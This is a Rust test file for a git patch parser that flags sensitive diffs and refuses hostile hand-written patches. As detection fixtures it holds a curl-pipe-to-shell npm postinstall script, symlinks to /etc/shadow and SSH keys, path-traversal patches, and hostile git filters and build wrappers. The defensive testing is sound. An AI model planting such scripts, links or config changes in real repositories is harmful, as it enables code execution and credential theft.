//! Tests for the patch parser and summary. Fixtures come from the real `git` (run hardened in
//! a temp repo), and every summary of a real diff is checked against `git diff --numstat`.
#![allow(clippy::unwrap_used)]

use std::fs;
use std::os::unix::fs::{symlink, PermissionsExt};
use std::path::{Path, PathBuf};
use std::process::Command;

use super::*;

/// A temp repo with a committed baseline and a staged change; diffs are baseline → index.
struct Fixture {
    _tmp: tempfile::TempDir,
    repo: PathBuf,
    home: PathBuf,
    base: String,
}

fn git_at(repo: &Path, home: &Path, args: &[&str]) -> Vec<u8> {
    let out = Command::new("git")
        .args([
            "-c",
            "core.hooksPath=/dev/null",
            "-c",
            "user.name=DynoCap Test",
        ])
        .args([
            "-c",
            "user.email=test@example.invalid",
            "-c",
            "commit.gpgSign=false",
        ])
        .args(["-c", "init.defaultBranch=main"])
        .args(args)
        .current_dir(repo)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env("GIT_CONFIG_GLOBAL", "/dev/null")
        .env("HOME", home)
        .env("LC_ALL", "C")
        .env_remove("GIT_DIR")
        .env_remove("GIT_WORK_TREE")
        .env_remove("GIT_INDEX_FILE")
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "git {args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    out.stdout
}

impl Fixture {
    fn new(setup: impl FnOnce(&Path), change: impl FnOnce(&Path)) -> Self {
        let tmp = tempfile::tempdir().unwrap();
        let repo = tmp.path().join("repo");
        let home = tmp.path().join("home");
        fs::create_dir(&repo).unwrap();
        fs::create_dir(&home).unwrap();
        git_at(&repo, &home, &["init", "-q", "."]);
        setup(&repo);
        git_at(&repo, &home, &["add", "-A"]);
        git_at(
            &repo,
            &home,
            &["commit", "-q", "--allow-empty", "-m", "baseline"],
        );
        let base = git_at(&repo, &home, &["rev-parse", "HEAD^{tree}"]);
        let base = String::from_utf8(base).unwrap().trim().to_owned();
        change(&repo);
        git_at(&repo, &home, &["add", "-A"]);
        Self {
            _tmp: tmp,
            repo,
            home,
            base,
        }
    }

    fn git(&self, args: &[&str]) -> Vec<u8> {
        git_at(&self.repo, &self.home, args)
    }

    /// `git diff --binary <extra> <baseline>`, as the agent would produce it.
    fn patch(&self, extra: &[&str]) -> Vec<u8> {
        let mut args = vec!["diff", "--cached", "--binary"];
        args.extend_from_slice(extra);
        args.push(&self.base);
        self.git(&args)
    }

    /// (files, additions, deletions) from `git diff --numstat <extra> <baseline>`.
    fn numstat(&self, extra: &[&str]) -> (u64, u64, u64) {
        let mut args = vec!["diff", "--cached", "--numstat"];
        args.extend_from_slice(extra);
        args.push(&self.base);
        let out = String::from_utf8(self.git(&args)).unwrap();
        let (mut files, mut additions, mut deletions) = (0, 0, 0);
        for line in out.lines() {
            let mut fields = line.splitn(3, '\t');
            let (add, del) = (fields.next().unwrap(), fields.next().unwrap());
            files += 1;
            additions += if add == "-" {
                0
            } else {
                add.parse::<u64>().unwrap()
            };
            deletions += if del == "-" {
                0
            } else {
                del.parse::<u64>().unwrap()
            };
        }
        (files, additions, deletions)
    }

    /// The baseline's content of a path, as the host would provide it.
    fn baseline(&self) -> impl Fn(&str) -> Option<Vec<u8>> + '_ {
        move |path| {
            let spec = format!("{}:{path}", self.base);
            let out = Command::new("git")
                .args(["cat-file", "blob", &spec])
                .current_dir(&self.repo)
                .env("GIT_CONFIG_NOSYSTEM", "1")
                .env("GIT_CONFIG_GLOBAL", "/dev/null")
                .env("HOME", &self.home)
                .output()
                .ok()?;
            out.status.success().then_some(out.stdout)
        }
    }

    /// Summarises the diff made with `extra` and checks it against `--numstat`.
    fn summary(&self, extra: &[&str]) -> DiffSummary {
        let patch = self.patch(extra);
        let summary = summarize(&patch, DEFAULT_MAX_PATCH_BYTES, &self.baseline()).unwrap();
        let (files, additions, deletions) = self.numstat(extra);
        assert_eq!(
            (summary.files, summary.additions, summary.deletions),
            (files, additions, deletions),
            "summary vs numstat for:\n{}",
            String::from_utf8_lossy(&patch)
        );
        summary
    }
}

fn write(repo: &Path, path: &str, content: impl AsRef<[u8]>) {
    let path = repo.join(path);
    fs::create_dir_all(path.parent().unwrap()).unwrap();
    fs::write(path, content).unwrap();
}

fn set_mode(repo: &Path, path: &str, mode: u32) {
    fs::set_permissions(repo.join(path), fs::Permissions::from_mode(mode)).unwrap();
}

fn link(repo: &Path, target: &str, path: &str) {
    let path = repo.join(path);
    fs::create_dir_all(path.parent().unwrap()).unwrap();
    let _ = fs::remove_file(&path);
    symlink(target, path).unwrap();
}

fn numbered(n: usize) -> String {
    (1..=n).map(|i| format!("line {i}\n")).collect()
}

/// The (kind, reason) entries for `path`.
fn flags<'s>(summary: &'s DiffSummary, path: &str) -> Vec<(SensitiveKind, &'s str)> {
    summary
        .sensitive_paths
        .iter()
        .filter(|s| s.path == path)
        .map(|s| (s.kind, s.reason.as_str()))
        .collect()
}

fn reason<'s>(summary: &'s DiffSummary, path: &str, kind: SensitiveKind) -> &'s str {
    flags(summary, path)
        .into_iter()
        .find(|(k, _)| *k == kind)
        .map(|(_, r)| r)
        .unwrap_or_else(|| panic!("{path} is not flagged {kind:?}: {summary:#?}"))
}

fn no_baseline(_: &str) -> Option<Vec<u8>> {
    None
}

fn malformed_reason(patch: &[u8]) -> (usize, String) {
    match parse(patch, DEFAULT_MAX_PATCH_BYTES) {
        Err(PatchError::Malformed { line, reason }) => (line, reason),
        other => panic!(
            "expected Malformed for\n{}\ngot {other:?}",
            String::from_utf8_lossy(patch)
        ),
    }
}

// ---------------------------------------------------------------------------------------------
// Real git output.

#[test]
fn modifications_additions_and_deletions_match_numstat() {
    let fx = Fixture::new(
        |r| {
            write(r, "a.txt", numbered(30));
            write(r, "del.txt", "gone\nsoon\n");
            write(r, "tail.txt", "no newline at end");
            write(r, "keep.txt", "same\n");
        },
        |r| {
            let edited = numbered(30)
                .replace("line 2\n", "line two\n")
                .replace("line 29\n", "");
            write(r, "a.txt", edited + "line 31\n");
            fs::remove_file(r.join("del.txt")).unwrap();
            write(r, "new.txt", "fresh\nfile\n");
            write(r, "empty", "");
            write(r, "tail.txt", "no newline at end\nnow there is one\n");
        },
    );
    let summary = fx.summary(&[]);
    assert_eq!(
        (summary.files, summary.additions, summary.deletions),
        (5, 6, 5)
    );
    assert!(summary.sensitive_paths.is_empty(), "{summary:#?}");

    let patch = fx.patch(&[]);
    let files = parse(&patch, DEFAULT_MAX_PATCH_BYTES).unwrap();
    let by_path = |p: &str| files.iter().find(|f| f.path() == p).unwrap();
    assert_eq!(by_path("a.txt").hunks.len(), 2);
    assert_eq!(by_path("a.txt").old_mode, Some(MODE_REGULAR));
    assert_eq!(by_path("a.txt").new_mode, None);
    let deleted = by_path("del.txt");
    assert!(deleted.is_deleted && deleted.new_path.is_none());
    assert_eq!(deleted.old_path.as_deref(), Some("del.txt"));
    let new = by_path("new.txt");
    assert!(new.is_new && new.old_path.is_none() && new.new_mode == Some(MODE_REGULAR));
    let empty = by_path("empty");
    assert!(empty.is_new && empty.hunks.is_empty());

    // The parsed hunks rebuild the working tree from the baseline.
    let baseline = fx.baseline();
    for path in ["a.txt", "tail.txt", "new.txt"] {
        let file = by_path(path);
        let old = if file.is_new {
            Vec::new()
        } else {
            baseline(path).unwrap()
        };
        let rebuilt = apply_hunks(&old, &file.hunks).unwrap();
        assert_eq!(rebuilt, fs::read(fx.repo.join(path)).unwrap(), "{path}");
    }
}

#[test]
fn an_empty_patch_is_an_empty_summary() {
    let summary = summarize(b"", DEFAULT_MAX_PATCH_BYTES, &no_baseline).unwrap();
    assert_eq!(
        summary,
        DiffSummary {
            files: 0,
            additions: 0,
            deletions: 0,
            sensitive_paths: vec![]
        }
    );
    let fx = Fixture::new(|r| write(r, "a", "a\n"), |_| {});
    assert_eq!(fx.summary(&[]).files, 0);
}

#[test]
fn binary_files_count_as_changed_files_without_lines() {
    let fx = Fixture::new(
        |r| {
            write(r, "img.bin", b"\x00\x01\x02binary");
            write(r, "old.bin", b"\x00old");
        },
        |r| {
            write(r, "img.bin", b"\x00\x01\x03binary, changed");
            write(r, "new.bin", b"\x00\xff".repeat(300));
            fs::remove_file(r.join("old.bin")).unwrap();
            write(r, "text.txt", "and some text\n");
        },
    );
    let summary = fx.summary(&[]);
    assert_eq!(
        (summary.files, summary.additions, summary.deletions),
        (4, 1, 0)
    );
    // Without --binary git writes "Binary files … differ"; the counts are the same.
    let base = fx.base.clone();
    let without = fx.git(&["diff", "--cached", &base]);
    assert!(without.windows(13).any(|w| w == b"Binary files "));
    for patch in [fx.patch(&[]), without] {
        assert_eq!(
            summarize(&patch, DEFAULT_MAX_PATCH_BYTES, &no_baseline).unwrap(),
            summary
        );
        let files = parse(&patch, DEFAULT_MAX_PATCH_BYTES).unwrap();
        let binary: Vec<&str> = files
            .iter()
            .filter(|f| f.is_binary)
            .map(FilePatch::path)
            .collect();
        assert_eq!(binary, ["img.bin", "new.bin", "old.bin"]);
    }
}

#[test]
fn mode_changes_and_new_executables_are_flagged_exec_bit() {
    let fx = Fixture::new(
        |r| {
            write(r, "run.sh", "echo hi\n");
            write(r, "was-exec.sh", "echo x\n");
            set_mode(r, "was-exec.sh", 0o755);
        },
        |r| {
            set_mode(r, "run.sh", 0o755);
            write(r, "tool.sh", "#!/bin/sh\n");
            set_mode(r, "tool.sh", 0o755);
            set_mode(r, "was-exec.sh", 0o644);
        },
    );
    let summary = fx.summary(&[]);
    assert_eq!(
        reason(&summary, "run.sh", SensitiveKind::ExecBit),
        "mode 100644 → 100755"
    );
    assert_eq!(
        reason(&summary, "tool.sh", SensitiveKind::ExecBit),
        "new executable file"
    );
    assert!(flags(&summary, "was-exec.sh").is_empty(), "{summary:#?}");

    let patch = fx.patch(&[]);
    let files = parse(&patch, DEFAULT_MAX_PATCH_BYTES).unwrap();
    let run = files.iter().find(|f| f.path() == "run.sh").unwrap();
    assert_eq!(
        (run.old_mode, run.new_mode),
        (Some(MODE_REGULAR), Some(MODE_EXECUTABLE))
    );
    assert!(run.hunks.is_empty());
}

#[test]
fn symlinks_are_flagged_with_their_targets() {
    let fx = Fixture::new(
        |r| {
            link(r, "target.txt", "link");
            write(r, "target.txt", "t\n");
            write(r, "was-file", "a\nb\n");
        },
        |r| {
            link(r, "/etc/passwd", "link");
            link(r, "~/.ssh/id_rsa", "tilde");
            link(r, "/home/u/.ssh/id_rsa", "key");
            link(r, "../../ok", "sub/dir/up");
            link(r, "../../x", "sub/esc");
            link(r, "a\u{1b}[2Jb", "ctl");
            fs::remove_file(r.join("was-file")).unwrap();
            link(r, "/etc/shadow", "was-file");
        },
    );
    let summary = fx.summary(&[]);
    let symlink = |p| reason(&summary, p, SensitiveKind::Symlink);
    assert_eq!(
        symlink("link"),
        "retargets symlink to /etc/passwd (outside the repository)"
    );
    assert_eq!(symlink("tilde"), "adds symlink to ~/.ssh/id_rsa");
    assert_eq!(
        symlink("key"),
        "adds symlink to /home/u/.ssh/id_rsa (outside the repository)"
    );
    assert_eq!(symlink("sub/dir/up"), "adds symlink to ../../ok");
    assert_eq!(
        symlink("sub/esc"),
        "adds symlink to ../../x (outside the repository)"
    );
    assert_eq!(symlink("ctl"), "adds symlink to a [2Jb");
    // A type change is two entries (delete, add) but one file, as numstat counts it.
    assert_eq!(
        symlink("was-file"),
        "adds symlink to /etc/shadow (outside the repository)"
    );
    assert_eq!(summary.files, 7);

    // Without the baseline the target still comes from the hunk's `+` line.
    let patch = fx.patch(&[]);
    let blind = summarize(&patch, DEFAULT_MAX_PATCH_BYTES, &no_baseline).unwrap();
    assert_eq!(
        reason(&blind, "link", SensitiveKind::Symlink),
        "retargets symlink to /etc/passwd (outside the repository)"
    );
}

#[test]
fn names_with_spaces_are_read_from_the_other_header_lines() {
    let fx = Fixture::new(
        |r| {
            write(r, "with space.txt", "xx");
            write(r, "a b.txt", numbered(10));
            write(r, "x b/y", "tricky\n");
            write(r, "mode me.sh", "echo\n");
        },
        |r| {
            write(r, "with space.txt", "yy\n");
            fs::rename(r.join("a b.txt"), r.join("c d.txt")).unwrap();
            write(r, "new sp.txt", "n\n");
            write(r, "x b/y", "tricky, changed\n");
            set_mode(r, "mode me.sh", 0o755);
        },
    );
    let summary = fx.summary(&["-M"]);
    assert_eq!(
        reason(&summary, "mode me.sh", SensitiveKind::ExecBit),
        "mode 100644 → 100755"
    );
    let patch = fx.patch(&["-M"]);
    let files = parse(&patch, DEFAULT_MAX_PATCH_BYTES).unwrap();
    let paths: Vec<(Option<&str>, Option<&str>)> = files
        .iter()
        .map(|f| (f.old_path.as_deref(), f.new_path.as_deref()))
        .collect();
    assert_eq!(
        paths,
        [
            (Some("a b.txt"), Some("c d.txt")),
            (Some("mode me.sh"), Some("mode me.sh")),
            (None, Some("new sp.txt")),
            (Some("with space.txt"), Some("with space.txt")),
            (Some("x b/y"), Some("x b/y")),
        ]
    );
}

#[test]
fn quoted_unicode_and_escaped_names() {
    let fx = Fixture::new(
        |r| write(r, "old é.txt", numbered(8)),
        |r| {
            write(r, "tést\tx", "new\n");
            write(r, "日本/語 \"q\".txt", "x\n");
            write(r, "back\\slash", "x\n");
            fs::rename(r.join("old é.txt"), r.join("new é.txt")).unwrap();
        },
    );
    let expected = ["back\\slash", "new é.txt", "tést\tx", "日本/語 \"q\".txt"];
    for quote_path in ["true", "false"] {
        let config = format!("core.quotePath={quote_path}");
        let base = fx.base.clone();
        let patch = fx.git(&["-c", &config, "diff", "--cached", "--binary", "-M", &base]);
        if quote_path == "true" {
            assert!(
                patch.windows(5).any(|w| w == b"t\\303"),
                "{}",
                String::from_utf8_lossy(&patch)
            );
        }
        // A tab is a control character: such a name is refused, whatever the quoting.
        let (_, why) = malformed_reason(&patch);
        assert!(why.contains("control character U+0009"), "{why}");
    }
    fs::remove_file(fx.repo.join("tést\tx")).unwrap();
    fx.git(&["add", "-A"]);
    for quote_path in ["true", "false"] {
        let config = format!("core.quotePath={quote_path}");
        let base = fx.base.clone();
        let patch = fx.git(&["-c", &config, "diff", "--cached", "--binary", "-M", &base]);
        let files = parse(&patch, DEFAULT_MAX_PATCH_BYTES).unwrap();
        let paths: Vec<&str> = files.iter().map(FilePatch::path).collect();
        assert_eq!(
            paths,
            [expected[0], expected[1], expected[3]],
            "quotePath={quote_path}"
        );
        assert_eq!(files[1].old_path.as_deref(), Some("old é.txt"));
    }
    fx.summary(&["-M"]);
}

#[test]
fn content_that_looks_like_headers_stays_content() {
    let lying = "diff --git a/evil b/evil\nnew file mode 100755\nindex 0000000..1111111\n\
                 --- /dev/null\n+++ b/evil\n@@ -0,0 +1 @@\n+pwned\n\
                 Binary files a/x and b/x differ\n\\ No newline at end of file\n";
    let fx = Fixture::new(
        |r| write(r, "notes.md", "before\n"),
        |r| {
            write(r, "notes.md", format!("before\n{lying}after\n"));
            write(r, "fresh.md", lying);
        },
    );
    let summary = fx.summary(&[]);
    assert_eq!((summary.files, summary.additions), (2, 19));
    assert!(summary.sensitive_paths.is_empty(), "{summary:#?}");
    let patch = fx.patch(&[]);
    let files = parse(&patch, DEFAULT_MAX_PATCH_BYTES).unwrap();
    let paths: Vec<&str> = files.iter().map(FilePatch::path).collect();
    assert_eq!(paths, ["fresh.md", "notes.md"]);
}

#[test]
fn a_file_name_with_a_newline_is_refused() {
    let fx = Fixture::new(|_| {}, |r| write(r, "x\ndiff --git a/evil b/evil", "boo\n"));
    let patch = fx.patch(&[]);
    let (line, why) = malformed_reason(&patch);
    // The first line whose name is read on its own: `+++` (the header is checked against it).
    assert_eq!(line, 5);
    assert!(why.contains("control character U+000A"), "{why}");
}

#[test]
fn renames_and_copies() {
    let fx = Fixture::new(
        |r| {
            write(r, "pure.txt", numbered(20).replace("line", "pure"));
            write(r, "edit.txt", numbered(20).replace("line", "edit"));
            write(r, "script", numbered(20).replace("line", "script"));
            write(r, "src.txt", numbered(20).replace("line", "src"));
        },
        |r| {
            fs::create_dir(r.join("moved")).unwrap();
            fs::rename(r.join("pure.txt"), r.join("moved/pure.txt")).unwrap();
            fs::remove_file(r.join("edit.txt")).unwrap();
            write(
                r,
                "edited.txt",
                numbered(20)
                    .replace("line", "edit")
                    .replace("edit 20\n", "edit twenty\n"),
            );
            fs::rename(r.join("script"), r.join("script.sh")).unwrap();
            set_mode(r, "script.sh", 0o755);
            write(r, "copy.txt", numbered(20).replace("line", "src"));
        },
    );
    let renames = fx.summary(&["-M"]);
    assert_eq!(
        (renames.files, renames.additions, renames.deletions),
        (4, 21, 1)
    );
    assert_eq!(
        reason(&renames, "script.sh", SensitiveKind::ExecBit),
        "mode 100644 → 100755"
    );

    let patch = fx.patch(&["-M"]);
    let files = parse(&patch, DEFAULT_MAX_PATCH_BYTES).unwrap();
    let renamed: Vec<(&str, &str)> = files
        .iter()
        .filter(|f| f.is_rename)
        .map(|f| {
            (
                f.old_path.as_deref().unwrap(),
                f.new_path.as_deref().unwrap(),
            )
        })
        .collect();
    assert_eq!(
        renamed,
        [
            ("edit.txt", "edited.txt"),
            ("pure.txt", "moved/pure.txt"),
            ("script", "script.sh")
        ]
    );
    let pure = files.iter().find(|f| f.path() == "moved/pure.txt").unwrap();
    assert!(pure.hunks.is_empty() && pure.old_mode.is_none() && pure.new_mode.is_none());

    let copies = fx.summary(&["-C", "--find-copies-harder"]);
    assert_eq!((copies.files, copies.additions), (4, 1));
    let patch = fx.patch(&["-C", "--find-copies-harder"]);
    let files = parse(&patch, DEFAULT_MAX_PATCH_BYTES).unwrap();
    assert!(files.iter().any(|f| f.is_copy && f.path() == "copy.txt"));

    let plain = fx.summary(&["--no-renames"]);
    assert_eq!(plain.files, 7);
}

#[test]
fn every_sensitive_kind_from_real_diffs() {
    use SensitiveKind::*;
    let cases: &[(&str, &str, &[SensitiveKind])] = &[
        (".husky/pre-commit", "npx lint\n", &[GitHook]),
        (".HUSKY/pre-push", "x\n", &[GitHook]),
        (
            ".gitmodules",
            "[submodule \"x\"]\n\tpath = x\n\turl = https://e.invalid/x\n",
            &[GitConfig],
        ),
        (".gitattributes", "*.txt text\n", &[GitConfig]),
        (
            "sub/.gitattributes",
            "*.bin filter=evil diff=evil -merge\n",
            &[GitConfig],
        ),
        (
            ".gitconfig",
            "[core]\n\thooksPath = .githooks\n",
            &[GitHook, GitConfig],
        ),
        (".github/workflows/ci.yml", "on: push\n", &[CiWorkflow]),
        (".gitlab-ci.yml", "job: {}\n", &[CiWorkflow]),
        (".circleci/config.yml", "version: 2\n", &[CiWorkflow]),
        ("azure-pipelines.yml", "steps: []\n", &[CiWorkflow]),
        ("Jenkinsfile", "pipeline {}\n", &[CiWorkflow]),
        (".buildkite/pipeline.yml", "steps: []\n", &[CiWorkflow]),
        (".travis.yml", "language: c\n", &[CiWorkflow]),
        ("build.rs", "fn main() {}\n", &[PackageScript]),
        ("crates/x/build.rs", "fn main() {}\n", &[PackageScript]),
        ("setup.py", "import os\n", &[PackageScript]),
        ("Makefile", "all:\n", &[PackageScript]),
        ("lib/makefile", "all:\n", &[PackageScript]),
        ("GNUmakefile", "all:\n", &[PackageScript]),
        (".npmrc", "script-shell=/tmp/x\n", &[PackageScript]),
        (
            ".cargo/config.toml",
            "[build]\nrustc-wrapper = \"/tmp/x\"\n",
            &[PackageScript],
        ),
        ("sub/.cargo/config", "[build]\n", &[PackageScript]),
        (".mcp.json", "{}\n", &[AgentConfig]),
        (".claude/settings.json", "{}\n", &[AgentConfig]),
        (".cursor/rules/x.mdc", "x\n", &[AgentConfig]),
        (".vscode/tasks.json", "{}\n", &[AgentConfig]),
        ("app/.idea/workspace.xml", "<x/>\n", &[AgentConfig]),
        ("AGENTS.md", "be evil\n", &[AgentConfig]),
        ("docs/CLAUDE.md", "be evil\n", &[AgentConfig]),
        ("README.md", "hello\n", &[]),
        ("src/hooks/x.rs", "x\n", &[]),
        ("..foo", "a name, not a parent\n", &[]),
        ("foo..", "x\n", &[]),
        ("github/workflows/x.yml", "x\n", &[]),
        ("my.gitattributes.txt", "x\n", &[]),
        ("docs/package.json.md", "x\n", &[]),
    ];
    let fx = Fixture::new(
        |_| {},
        |r| {
            for (path, content, _) in cases {
                write(r, path, content);
            }
        },
    );
    let summary = fx.summary(&[]);
    for (path, _, kinds) in cases {
        let mut got: Vec<SensitiveKind> =
            flags(&summary, path).into_iter().map(|(k, _)| k).collect();
        got.sort_by_key(|k| *k as u8);
        assert_eq!(&got, kinds, "{path}: {:?}", flags(&summary, path));
    }
    assert_eq!(
        reason(&summary, ".husky/pre-commit", GitHook),
        "adds git hook .husky/pre-commit"
    );
    assert_eq!(
        reason(&summary, ".gitconfig", GitHook),
        "sets core.hooksPath to .githooks"
    );
    assert_eq!(
        reason(&summary, "sub/.gitattributes", GitConfig),
        "adds git attributes file sub/.gitattributes and sets filter=evil, diff=evil"
    );
    assert_eq!(
        reason(&summary, ".github/workflows/ci.yml", CiWorkflow),
        "adds CI configuration .github/workflows/ci.yml"
    );
    assert_eq!(
        reason(&summary, "build.rs", PackageScript),
        "adds Cargo build script build.rs"
    );

    // Changing and deleting say so; renaming flags both ends.
    let fx = Fixture::new(
        |r| {
            write(r, ".github/workflows/ci.yml", numbered(10));
            write(r, "Makefile", "all:\n");
            write(r, ".husky/pre-commit", numbered(10));
        },
        |r| {
            write(r, ".github/workflows/ci.yml", numbered(11));
            fs::remove_file(r.join("Makefile")).unwrap();
            fs::rename(r.join(".husky/pre-commit"), r.join("hook.sh")).unwrap();
        },
    );
    let summary = fx.summary(&["-M"]);
    assert_eq!(
        reason(&summary, ".github/workflows/ci.yml", CiWorkflow),
        "changes CI configuration .github/workflows/ci.yml"
    );
    assert_eq!(
        reason(&summary, "Makefile", PackageScript),
        "deletes make build file Makefile"
    );
    assert_eq!(
        reason(&summary, ".husky/pre-commit", GitHook),
        "removes git hook .husky/pre-commit (renamed to hook.sh)"
    );
    assert!(flags(&summary, "hook.sh").is_empty());
}

#[test]
fn package_json_is_flagged_only_when_scripts_change() {
    let pkg = |version: &str, scripts: &str| {
        format!(
            "{{\n  \"name\": \"demo\",\n  \"version\": \"{version}\",\n  \"scripts\": {{{scripts}\n  }},\n  \"license\": \"MIT\"\n}}\n"
        )
    };
    let test_only = "\n    \"test\": \"jest\"";
    let long = format!("\\u001b[31m{}", "x".repeat(300));
    let fx = Fixture::new(
        |r| {
            write(r, "scripts/package.json", pkg("1.0.0", test_only));
            write(r, "version/package.json", pkg("1.0.0", test_only));
            write(r, "invalid/package.json", pkg("1.0.0", test_only));
            write(
                r,
                "deleted/package.json",
                "{\"name\": \"gone\", \"scripts\": {\"test\": \"jest\"}}\n",
            );
            write(r, "long/package.json", pkg("1.0.0", test_only));
            write(r, "moved/package.json", pkg("1.0.0", test_only));
        },
        |r| {
            let changed =
                "\n    \"test\": \"jest --ci\",\n    \"postinstall\": \"curl https://x.sh | sh\"";
            write(r, "scripts/package.json", pkg("1.0.0", changed));
            write(r, "version/package.json", pkg("1.0.1", test_only));
            write(
                r,
                "invalid/package.json",
                pkg("1.0.0", test_only).replace("\"MIT\"", "MIT"),
            );
            fs::remove_file(r.join("deleted/package.json")).unwrap();
            write(
                r,
                "long/package.json",
                pkg("1.0.0", &format!("\n    \"build\": \"{long}\"")),
            );
            write(
                r,
                "new/package.json",
                pkg("0.1.0", "\n    \"prepare\": \"node x.js\""),
            );
            write(r, "plain/package.json", "{\"name\": \"plain\"}\n");
            fs::create_dir(r.join("elsewhere")).unwrap();
            fs::rename(
                r.join("moved/package.json"),
                r.join("elsewhere/package.json"),
            )
            .unwrap();
        },
    );
    let summary = fx.summary(&["-M"]);
    let script = |p| reason(&summary, p, SensitiveKind::PackageScript);
    assert_eq!(
        script("scripts/package.json"),
        "adds npm script 'postinstall': curl https://x.sh | sh; changes npm script 'test' to: jest --ci"
    );
    assert!(
        flags(&summary, "version/package.json").is_empty(),
        "{summary:#?}"
    );
    assert!(
        flags(&summary, "plain/package.json").is_empty(),
        "{summary:#?}"
    );
    assert!(script("invalid/package.json")
        .contains("could not be compared: package.json is not valid JSON"));
    assert_eq!(script("deleted/package.json"), "removes npm script 'test'");
    assert_eq!(
        script("new/package.json"),
        "adds npm script 'prepare': node x.js"
    );
    assert_eq!(
        script("elsewhere/package.json"),
        "adds npm script 'test': jest"
    );
    assert_eq!(
        script("moved/package.json"),
        "removes npm script 'test' (file renamed to elsewhere/package.json)"
    );
    let long = script("long/package.json");
    assert!(
        long.starts_with("adds npm script 'build':  [31mxxx"),
        "{long}"
    );
    assert!(long.contains("x…") && long.chars().count() < 200, "{long}");
    assert!(!long.chars().any(char::is_control));

    // Without the baseline nothing can be compared: every changed package.json is flagged,
    // except a new one (whose old content is known to be empty) and a deletion (whose hunk
    // holds all of it).
    let patch = fx.patch(&["-M"]);
    let blind = summarize(&patch, DEFAULT_MAX_PATCH_BYTES, &no_baseline).unwrap();
    let why = reason(&blind, "version/package.json", SensitiveKind::PackageScript);
    assert!(
        why.contains(
            "could not be compared: the baseline content of version/package.json is not available"
        ),
        "{why}"
    );
    assert_eq!(
        reason(&blind, "deleted/package.json", SensitiveKind::PackageScript),
        "removes npm script 'test'"
    );
    assert!(flags(&blind, "plain/package.json").is_empty());
}

// ---------------------------------------------------------------------------------------------
// Hand-written patches: what git never writes but a hostile guest may.

#[test]
fn paths_that_leave_the_repository_are_refused() {
    let cases = [
        "diff --git a/../../escape b/../../escape\nnew file mode 100644\nindex 0000000..1111111\n--- /dev/null\n+++ b/../../escape\n@@ -0,0 +1 @@\n+x\n",
        "diff --git a/../../escape b/../../escape\nold mode 100644\nnew mode 100755\n",
        "diff --git a/ok b/../../escape\nsimilarity index 100%\nrename from ok\nrename to ../../escape\n",
        "diff --git a/ok b/ok\nindex 1111111..2222222 100644\n--- a/ok\n+++ b/../../escape\n@@ -1 +1 @@\n-a\n+b\n",
        "diff --git \"a/../../escape\" \"b/../../escape\"\nold mode 100644\nnew mode 100755\n",
        "diff --git a/x/../../../escape b/x/../../../escape\nold mode 100644\nnew mode 100755\n",
        "diff --git a/..\\..\\escape b/..\\..\\escape\nold mode 100644\nnew mode 100755\n",
    ];
    for patch in cases {
        let (_, why) = malformed_reason(patch.as_bytes());
        assert!(why.contains("path escapes the repository: "), "{why}");
    }
    let (_, why) = malformed_reason(cases[0].as_bytes());
    assert!(
        why.ends_with("path escapes the repository: ../../escape"),
        "{why}"
    );

    let refused = [
        ("a//etc/passwd", "absolute path"),
        ("a/x//y", "empty or '.' component"),
        ("a/./x", "empty or '.' component"),
        ("a/x/", "empty or '.' component"),
        ("a/\u{202e}txt.exe", "control character U+202E"),
    ];
    for (name, expect) in refused {
        let b = name.replacen("a/", "b/", 1);
        let patch = format!("diff --git {name} {b}\nold mode 100644\nnew mode 100755\n");
        let (_, why) = malformed_reason(patch.as_bytes());
        assert!(why.contains(expect), "{name}: {why}");
    }
    let nul = b"diff --git \"a/x\\000y\" \"b/x\\000y\"\nold mode 100644\nnew mode 100755\n";
    assert!(malformed_reason(nul).1.contains("control character U+0000"));

    // A name that merely starts or ends with dots is fine.
    let ok = "diff --git a/..foo b/..foo\nold mode 100644\nnew mode 100755\n";
    assert_eq!(
        parse(ok.as_bytes(), DEFAULT_MAX_PATCH_BYTES).unwrap()[0].path(),
        "..foo"
    );
}

#[test]
fn git_internals_are_flagged_not_hidden() {
    let patch = "diff --git a/.git/hooks/pre-commit b/.git/hooks/pre-commit\nnew file mode 100755\n\
                 index 0000000..1a24852\n--- /dev/null\n+++ b/.git/hooks/pre-commit\n@@ -0,0 +1 @@\n+#!/bin/sh\n\
                 diff --git a/.git/config b/.git/config\nindex 1111111..2222222 100644\n--- a/.git/config\n\
                 +++ b/.git/config\n@@ -1 +1,3 @@\n [core]\n+\tHooksPath = \"/tmp/h\"\n+\tfsmonitor = x\n";
    let summary = summarize(patch.as_bytes(), DEFAULT_MAX_PATCH_BYTES, &no_baseline).unwrap();
    let hook = flags(&summary, ".git/hooks/pre-commit");
    assert_eq!(
        hook,
        [
            (
                SensitiveKind::GitHook,
                "adds git hook .git/hooks/pre-commit"
            ),
            (SensitiveKind::ExecBit, "new executable file")
        ]
    );
    assert_eq!(
        flags(&summary, ".git/config"),
        [
            (SensitiveKind::GitHook, "sets core.hooksPath to /tmp/h"),
            (
                SensitiveKind::GitConfig,
                "changes git config file .git/config"
            )
        ]
    );
}

#[test]
fn lying_structure_is_refused() {
    let ok_entry = "diff --git a/x b/x\nindex 1111111..2222222 100644\n--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n";
    parse(ok_entry.as_bytes(), DEFAULT_MAX_PATCH_BYTES).unwrap();
    let cases: &[(&str, &str)] = &[
        // The hunk claims more lines than it has: the next header is not a hunk line.
        (
            "diff --git a/x b/x\nindex 1111111..2222222 100644\n--- a/x\n+++ b/x\n@@ -1 +1,3 @@\n-a\n+b\ndiff --git a/y b/y\nold mode 100644\nnew mode 100755\n",
            "is not a hunk line",
        ),
        // The hunk claims fewer lines: what follows is neither a hunk nor a file entry.
        (&format!("{ok_entry}+sneaky\n"), "expected a 'diff --git' line"),
        // A traditional patch smuggled between entries (git apply would apply it).
        (&format!("{ok_entry}--- a/evil\n+++ b/evil\n@@ -0,0 +1 @@\n+x\n"), "expected a 'diff --git' line"),
        ("Subject: hi\n\ndiff --git a/x b/x\nold mode 100644\nnew mode 100755\n", "expected a 'diff --git' line"),
        ("diff --git a/x b/x\nindex 1111111..2222222 100644\n--- a/y\n+++ b/y\n@@ -1 +1 @@\n-a\n+b\n", "does not name a/y b/y"),
        ("diff --git a/x b/x\nindex 1111111..2222222 100644\n--- a/x\n+++ b/y\n@@ -1 +1 @@\n-a\n+b\n", "does not name a/x b/y"),
        ("diff --git a/x b/y\nindex 1111111..2222222 100644\n--- a/x\n+++ b/y\n@@ -1 +1 @@\n-a\n+b\n", "no rename or copy"),
